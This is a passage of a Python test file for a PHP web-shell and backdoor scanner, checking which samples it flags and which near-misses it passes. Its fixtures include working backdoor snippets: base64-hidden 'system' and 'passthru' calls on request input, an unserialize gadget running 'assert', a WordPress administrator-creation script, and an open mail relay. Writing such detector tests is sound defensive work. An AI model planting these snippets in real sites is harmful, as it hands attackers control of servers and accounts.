            # an old template engine: /e with a literal template, eval of compiled code
            ('tpl.inc', b"<?php\nclass Template {\n function compile($code) {\n"
                        b"  $code = preg_replace('#\\{L_([A-Z_]+)\\}#e', \"isset(\\$lang['\\\\1']) ? \\$lang['\\\\1'] : ''\", $code);\n"
                        b"  return $code; }\n function pparse($h) { $code = $this->compile($this->files[$h]); eval($code); }\n}\n"),
            # a legacy order form: extract() of the post, the order mailed to a fixed address
            ('order.php', b"<?php\nextract($_POST, EXTR_SKIP);\n$fp = fopen('orders.log', 'a');\n"
                          b"fputs($fp, date('c') . \"\\t\" . $name . \"\\t\" . $qty . \"\\n\");\n"
                          b"mail($cfg_order_email, 'Order from ' . $name, $qty . ' loaves');\n?>\n"
                          b"<form method=post><input name=name><input name=qty></form>\n"),
            # a web cron: the job name picks a lock file with a fixed extension
            ('cron.php', b"<?php\n$job = (string) ($_GET['job'] ?? 'hourly');\nif (!isset($jobs[$job])) exit;\n"
                         b"$lockFile = $root . '/var/cron-' . $job . '.lock';\n$lock = fopen($lockFile, 'c');\n"
                         b"$p = proc_open($jobs[$job], $desc, $pipes);\n")):
        v = eng.analyse(src, '/var/www/html/' + name)
        assert not v.suspicious, (name, v)


def test_legacy_counter_writing_a_text_file_per_page(eng):
    src = (b"<?php\n$page = isset($HTTP_GET_VARS['page']) ? $HTTP_GET_VARS['page'] : 'index';\n"
           b"$page = preg_replace('/[^a-zA-Z0-9_-]/', '', $page);\n$file = \"$count_dir/$page.txt\";\n"
           b"if (!file_exists($file)) { $fp = @fopen($file, 'w'); fwrite($fp, '0'); fclose($fp); }\n")
    v = eng.analyse(src, '/var/www/html/counter.php')
    assert not v.suspicious and 'php.write.request_path' not in rules(v), v
    # the same write under a name the client ends itself is still reported
    v = eng.analyse(src.replace(b'$page.txt', b'$page'), '/var/www/html/counter.php')
    assert 'php.write.request_path' in rules(v), v


def test_callbacks_of_callbacks_base64_names_and_unserialize_gadgets(eng):
    v = eng.analyse(b"<?php\nregister_shutdown_function('array_map', 'pass' . 'thru', "
                    b"[base64_decode($_SERVER['HTTP_X_WARM'])]);\n", '/var/www/html/config.php')
    assert v.suspicious and 'php.callback.dangerous_name' in rules(v), v
    v = eng.analyse(b"<?php\nclass R { private $t = ['a' => 'c3lzdGVt']; }\n"
                    b"$f = base64_decode('c3lzdGVt');\n$g = $_GET['x'];\necho $f($g);\n", '/var/www/html/r.php')
    assert v.suspicious and 'php.obfuscation.hidden_function' in rules(v), v
    src = (b"<?php\nfinal class CacheEntry {\n  public $m = '';\n"
           b"  public function __destruct() { $f = 'as' . 'sert'; $f($this->m); }\n}\n"
           b"$o = @unserialize(base64_decode($_COOKIE['state']));\n")
    v = eng.analyse(src, '/var/www/html/vendor/composer/autoload_real.php')
    assert v.suspicious and 'php.code.request_input' in rules(v), v
    # near-miss: options unserialized from the database, a __toString that formats
    near = (b"<?php\nclass Money { public $v; function __toString() { return number_format($this->v, 2); } }\n"
            b"$opts = unserialize(get_option('my_opts'));\n$cb = array_map('intval', (array) $_GET['ids']);\n")
    assert not eng.analyse(near, '/var/www/html/m.php').suspicious


def test_loose_script_that_boots_wordpress_to_make_an_administrator(eng):
    src = (b"<?php\n$d = __DIR__;\nwhile (!file_exists($d . '/wp-load.php')) { $d = dirname($d); }\n"
           b"require_once $d . '/wp-load.php';\n$id = wp_create_user($_GET['u'], $_GET['p'], $_GET['m']);\n"
           b"$u = new WP_User($id);\n$u->set_role('administrator');\necho 'ok';\n")
    v = eng.analyse(src, '/var/www/html/wp-content/uploads/x.php')
    assert v.suspicious and 'php.backdoor.admin_account' in rules(v), v
    near = (b"<?php\nrequire_once __DIR__ . '/wp-load.php';\nif (!current_user_can('manage_options')) { wp_die('no'); }\n"
            b"echo esc_html(get_role('administrator')->name);\n")
    assert not eng.analyse(near, '/var/www/html/roles.php').suspicious


def test_mailer_letting_the_client_pick_header_and_envelope_senders(eng):
    src = (b"<?php\n$from = $_POST['fm'];\n$h = 'From: ' . $from . \"\\r\\n\";\n"
           b"foreach (preg_split('/\\s+/', $_POST['list']) as $to) {\n"
           b"  mail($to, $_POST['s'], $_POST['b'], $h, '-f' . $from);\n}\n")
    v = eng.analyse(src, '/var/www/html/m.php')
    assert v.suspicious and 'php.mailer.request_recipients' in rules(v), v


def test_framework_request_accessors_are_request_input(eng):
    src = (b"<?php\nclass Sync {\n  public static function run(WP_REST_Request $req) {\n"
           b"    $cb = (string) $req->get_param('op');\n    $args = (array) $req->get_param('args');\n"
           b"    return call_user_func_array($cb, $args);\n  }\n}\n")
    v = eng.analyse(src, '/var/www/html/wp-content/mu-plugins/m.php')
    assert v.suspicious and 'php.call.request_function' in rules(v), v
    # near-miss: a REST handler dispatching on a whitelist of its own methods
    near = (b"<?php\nclass Api {\n  public function handle(WP_REST_Request $req) {\n"
            b"    $op = $req->get_param('op');\n    $ops = array('status' => 'get_status', 'ping' => 'do_ping');\n"
            b"    if (!isset($ops[$op])) return new WP_Error('bad');\n"
            b"    return call_user_func(array($this, $ops[$op]));\n  }\n}\n")
    assert not eng.analyse(near, '/var/www/html/api.php').suspicious
